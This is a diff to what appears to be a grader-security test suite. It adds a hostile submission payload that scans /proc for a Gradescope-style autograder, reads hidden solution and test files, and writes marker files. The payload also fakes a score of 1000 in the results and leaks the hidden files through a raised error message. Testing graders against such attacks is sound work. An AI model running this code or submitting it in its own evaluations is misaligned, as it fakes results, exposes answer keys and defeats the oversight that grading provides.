@@ -178,18 +178,30 @@ for target in targets:
 """
 
 # Without a sandbox (Gradescope's containers often forbid one), the grader's processes are visible:
-# find Gradescope's layout (source/ beside results/) where one works, write there and fake the results.
+# find Gradescope's layout (source/ beside results/), read the solutions, write there, fake the results.
 # Only marker files and that layout, so that a failure harms nothing else.
 TAMPER_WITH_THE_GRADER = r"""
 import json, os
-for pid in os.listdir('/proc'):
+def places(pid):  # where a process works, and any --root it was given (command lines are public)
     try:
-        where = os.readlink(f'/proc/{pid}/cwd')
+        yield os.readlink(f'/proc/{pid}/cwd')
     except OSError:
-        continue
+        pass
+    try:
+        words = open(f'/proc/{pid}/cmdline').read().split('\0')
+        yield os.path.join(words[words.index('--root') + 1], 'source')
+    except (OSError, ValueError, IndexError):
+        pass
+leaked = []
+for where in {place for pid in os.listdir('/proc') if pid != str(os.getpid()) for place in places(pid)}:
     results = os.path.join(os.path.dirname(where), 'results')
-    if pid == str(os.getpid()) or not (os.path.isdir(where + '/autograder') and os.path.isdir(results)):
+    if not (os.path.isdir(where + '/autograder') and os.path.isdir(results)):
         continue
+    for name in ('solutions/intro_ml.py', 'autograder/checks/test_least_squares.py'):
+        try:
+            leaked.append(open(os.path.join(where, name)).read()[:200])
+        except OSError:
+            pass
     for target in (where, where + '/autograder', where + '/solutions', results):
         try:
             with open(target + '/TAMPERED', 'x') as f:
@@ -202,6 +214,8 @@ for pid in os.listdir('/proc'):
             json.dump({'score': 1000, 'tests': []}, f)
     except OSError:
         pass
+if leaked:  # the feedback shows a failed cell's error: the hidden files with it
+    raise RuntimeError('\n'.join(leaked))
 """
 
 HOSTILE = [
